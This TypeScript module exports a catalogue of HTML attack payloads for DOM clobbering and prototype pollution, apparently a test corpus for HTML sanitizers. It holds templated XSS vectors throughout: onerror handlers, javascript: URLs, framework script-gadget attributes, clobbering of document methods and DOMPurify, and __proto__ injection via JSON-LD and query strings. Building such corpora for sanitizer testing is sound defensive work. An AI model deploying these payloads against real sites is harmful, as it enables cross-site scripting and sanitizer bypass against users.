import { category } from './payload';
import { CLOBBERING, HEYES, own, POLLUTION, SCRIPT_GADGETS } from './sources';

/** Names that replace what a script expects of `window`, `document` or an element. */
export const CLOBBERING_NAMES = category('clobbering', [
  [
    HEYES,
    {
      'global-collection':
        '<a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror={{CALL}}//">a</a>',
      'form-attributes': '<form id=x tabindex=0 onfocus={{CALL}} autofocus><input id=attributes></form>',
      'three-levels': '<form id=x name=y><input id=z value="{{URL}}"></form><form id=x></form>',
      'iframe-levels': `<iframe name=a srcdoc="<iframe srcdoc='<a id=c name=d href=cid:x>a</a>' name=b>"></iframe>`,
      'base-ancestor': '<base href="a:abc"><a id=x href="Firefox<{{CALL}}>">a</a>',
      'style-attribute':
        '<form><input name=style><input name=attributes><img src=x: onerror={{CALL}}></form>',
    },
  ],
  [
    CLOBBERING,
    {
      'document-cookie': '<img name=cookie><form name=cookie></form>',
      'document-body': '<form name=body><img name=firstChild onerror={{CALL}} src=x:></form>',
      'document-head': '<form name=head></form><img name=documentElement src=x: onerror={{CALL}}>',
      'document-default-view':
        '<form name=defaultView><input name=location></form><img src=x: onerror={{CALL}}>',
      'document-create-element': '<img name=createElement><img name=createElementNS><img name=createRange>',
      'document-query':
        '<form name=querySelector></form><form name=querySelectorAll></form><img name=getElementById>',
      'document-implementation': '<form name=implementation><input name=createHTMLDocument></form>',
      'document-url': '<a name=URL href="javascript:{{CALL}}">a</a><img name=baseURI><img name=location>',
      'document-write': '<form name=write></form><embed name=currentScript src="{{URL}}">',
      'document-adopt': '<object name=adoptNode></object><object name=importNode data="{{URL}}"></object>',
      'node-remove':
        '<form><input name=remove><input name=removeChild><input name=removeAttribute><img src=x: onerror={{CALL}}></form>',
      'node-parent':
        '<form><input name=parentNode><input name=parentElement><input name=ownerDocument><b onclick={{CALL}}>a</b></form>',
      'node-children':
        '<form onclick={{CALL}}><input name=childNodes><input name=children><input name=firstChild></form>',
      'node-name':
        '<form onclick={{CALL}}><input name=nodeName><input name=localName><input name=tagName><input name=namespaceURI></form>',
      'node-content':
        '<form><input name=textContent><input name=innerHTML><input name=outerHTML><script>{{CALL}}</script></form>',
      'node-attributes':
        '<form onmouseover={{CALL}}><input name=attributes><input name=setAttribute><input name=getAttribute><input name=hasAttribute></form>',
      'node-insert':
        '<form><input name=insertBefore><input name=append><input name=replaceWith><img src=x: onerror={{CALL}}></form>',
      'node-match':
        '<form onclick={{CALL}}><input name=matches><input name=closest><input name=querySelectorAll></form>',
      'window-name': '<iframe name=name></iframe><a id=top></a><a id=self></a><a id=parent></a>',
      'window-location': '<a id=location href="javascript:{{CALL}}">a</a><form id=history></form>',
      'window-browser': '<a id=browser><a id=browser name=runtime href="{{URL}}">a</a><a id=chrome></a>',
      'window-sanitize':
        '<a id=DOMPurify><a id=DOMPurify name=sanitize href="{{URL}}">a</a><form id=trustedTypes></form>',
      'window-fetch':
        '<a id=fetch></a><a id=Node></a><a id=NodeFilter></a><a id=Element></a><a id=DOMParser></a>',
    },
  ],
  [
    own(SCRIPT_GADGETS),
    {
      'data-part-of-view': '<p data-part=content data-state=article data-control=close>a</p>',
      'view-host-name': '<lectern-reader id=lectern-reader onclick={{CALL}}>a</lectern-reader>',
      'data-bind': '<p data-bind="value: {{CALL}}" ng-init="{{CALL}}" v-html="{{CALL}}">a</p>',
      'bootstrap-tooltip': `<p data-toggle=tooltip data-html=true title="<img src=x: onerror={{CALL}}>">a</p>`,
      'angular-brackets': '<p ng-app>{{UNICODE:x}}{{=1}}[[1]]$\u007b{{CALL}}}</p>',
      'aurelia-polymer':
        '<p one-way.bind="{{CALL}}"></p><template is=dom-bind><p four="[[{{CALL}}]]"></p></template>',
      'hx-handlers':
        '<p hx-on:load="{{CALL}}" hx-get="{{URL}}" x-init="{{CALL}}" x-html="`x`" _="on load {{CALL}}">a</p>',
      'duplicate-ids': '<p id=content>a</p><p id=content onclick={{CALL}}>b</p><p id="x&quot;]">c</p>',
      'usemap-and-for':
        '<label for=save>a</label><img usemap="#save" src="{{URL}}"><output for=save>b</output>',
    },
  ],
]);

/** Names by which an object is given what all objects then have. */
export const POLLUTING_NAMES = category('pollution', [
  [
    POLLUTION,
    {
      'proto-id': '<p id="__proto__">a</p><a href="#__proto__">b</a>',
      'proto-json':
        '<script type="application/ld+json">{"@type":"Article","__proto__":{"src":"{{URL}}","innerHTML":"<img src=x: onerror={{CALL}}>"}}</script>',
      'constructor-json':
        '<script type="application/ld+json">{"@type":"Article","constructor":{"prototype":{"onerror":"{{CALL}}"}}}</script>',
      'proto-meta': '<meta property="__proto__" content="{{CALL}}"><meta name="constructor" content="x">',
      'proto-name':
        '<form><input name="__proto__" value="{{CALL}}"><input name=constructor><input name=hasOwnProperty></form>',
      'proto-class': '<p class="__proto__ constructor toString" lang="__proto__">a</p>',
      'proto-language':
        '<pre><code class="language-__proto__">{{CALL}}</code></pre><pre><code class="language-constructor">x</code></pre>',
      'proto-heading': '<h2 id=constructor>constructor</h2><h2 id=toString>__proto__</h2>',
      'proto-track':
        '<video><track srclang="__proto__" kind="constructor" label="toString" src="{{URL}}"></video>',
      'proto-query':
        '<a href="?__proto__[innerHTML]=<img/src/onerror={{CALL}}>">a</a><a href="#constructor[prototype][x]=1">b</a>',
    },
  ],
  [
    own(POLLUTION),
    {
      'proto-dir': '<p dir="__proto__" lang="constructor" type="__proto__">a</p>',
      'proto-data':
        '<p data-__proto__="{{CALL}}" data-constructor="x" data-place="__proto__" data-language="constructor">a</p>',
      'proto-list': '<ol type="constructor" start="__proto__"><li value="NaN">a</li></ol>',
      'proto-embed':
        '<a data-embed="__proto__" href="javascript:{{CALL}}">a</a><p data-row="constructor" data-gloss="toString">b</p>',
    },
  ],
]);
